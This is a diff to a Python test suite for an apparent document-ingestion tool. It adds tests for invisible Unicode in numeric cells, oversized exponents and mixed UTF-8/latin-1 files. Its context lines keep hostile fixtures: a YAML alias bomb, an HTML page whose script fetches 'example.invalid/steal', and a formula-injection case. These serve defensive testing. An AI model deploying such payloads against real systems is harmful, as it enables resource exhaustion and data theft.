@@ -75,7 +75,9 @@ DEEP = ("# A Guide\n\nAuthor: Team. Date: May 2025\n\n## Part\n\n###### Too deep
 ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
     f"{k}: &{k} [{', '.join([f'*{j}'] * 9)}]\n" for j, k in zip("abcdefg", "bcdefgh", strict=True))
 NUMBERS = ("| Measure | Value |\n|---|---|\n| Huge | 9.9 × 10^308 |\n| Count | 10^6 |\n"
-           "| Spaced | 1\u200b234.5 |\n| Rate | 1.5e-3 |\n")
+           "| Spaced | 1\u200b234.5 |\n| Rate | 1.5e-3 |\n| Marked | 1\u200e234.5 |\n"
+           "| Times | 1\u2062234 |\n| Grouped | 1\u202f234.5 |\n| Long exponent | 2 × 10^" + "9" * 5000
+           + " |\n| Long power | 10^99999 |\n")
 HOSTILE = """<!DOCTYPE html><html><head><title>Page title</title>
 <script>alert('x');fetch('http://example.invalid/steal')</script><style>p{}</style></head>
 <body><h1>Hostile Guide</h1><p>Author: Team. Date: May 2025</p><!-- hidden [9] -->
@@ -115,6 +117,11 @@ BROKEN: dict[str, bytes] = {
     "long-catalog.txt": guide("Data\n\nText.", "B" + "1" * 300).encode(),
     "n" * 240 + ".txt": guide("Data\n\nText.", None).encode(),
     "-dash.txt": guide("Data\n\nText.", None).encode(),
+    # One line of multi-byte UTF-8 among ASCII lines, and two lines another tool saved in latin-1.
+    "mostly-ascii.txt": b"\n".join([
+        guide("Data\n\n| Dose | Amount |\n|---|---|\n| Low | 5 \u00b5g |", "B000017").encode("utf-8"),
+        "Stray line caf\u00e9.".encode("latin-1"), b"ASCII line.",
+        "Another na\u00efve one.".encode("latin-1")]),
     "wide-cell.txt": guide("Data\n\n| Name | Note |\n|---|---|\n| x | " + "w" * 200_000 + " |\n",
                            "B000014").encode(),
 }
@@ -149,6 +156,7 @@ EXPECTED: dict[str, list[tuple[str, str, bool]]] = {
                     ("warning", "starts like a spreadsheet formula ('@cmd')", True)],
     "too-big.txt": [("error", "over the", False)],
     "mixed-encoding.txt": [("warning", "the file is UTF-8 but line 3 is not; read as cp1252", True)],
+    "mostly-ascii.txt": [("warning", "the file is UTF-8 but lines 17, 19 are not", True)],
     "alias-bomb.md": [("warning", "uses a YAML alias", True)],
     "deep-yaml.md": [("warning", "nests values more than 16 levels deep", True)],
     "bad-date.md": [("warning", "published '2025-13-45' is not a calendar date", True)],
@@ -267,6 +275,10 @@ def test_numbers_are_exact_or_refused(mixed_run: Run) -> None:
     assert float(cells["Count"]["value"]) == 1e6
     assert (cells["Spaced"]["text"], float(cells["Spaced"]["value"])) == ("1234.5", 1234.5)
     assert float(cells["Rate"]["value"]) == 0.0015
+    for invisible in ("Marked", "Times"):  # a direction mark, an invisible operator: removed
+        assert cells[invisible]["text"].startswith("1234") and float(cells[invisible]["value"]) > 1000
+    assert float(cells["Grouped"]["value"]) == 1234.5  # a narrow space groups thousands
+    assert cells["Long exponent"]["value"] == cells["Long power"]["value"] == ""  # never 2 or 10
 
 
 def test_every_json_output_is_strict_json(mixed_run: Run) -> None:
@@ -311,3 +323,11 @@ def test_a_link_out_of_the_sources_folder_is_never_read(mixed_run: Run) -> None:
     everything = "".join(p.read_text("utf-8") for p in (work / "outputs").rglob("*") if p.is_file())
     assert SECRET not in everything
     assert "B000016" not in everything
+
+
+def test_mostly_ascii_utf8_keeps_its_utf8(mixed_run: Run) -> None:
+    work, _ = mixed_run
+    row = documents(work)["mostly-ascii.txt"]
+    assert row["encoding"] == "utf-8"
+    text = (work / "outputs" / "documents" / f"{row['doc_id']}.json").read_text("utf-8")
+    assert "5 µg" in text and "Âµ" not in text
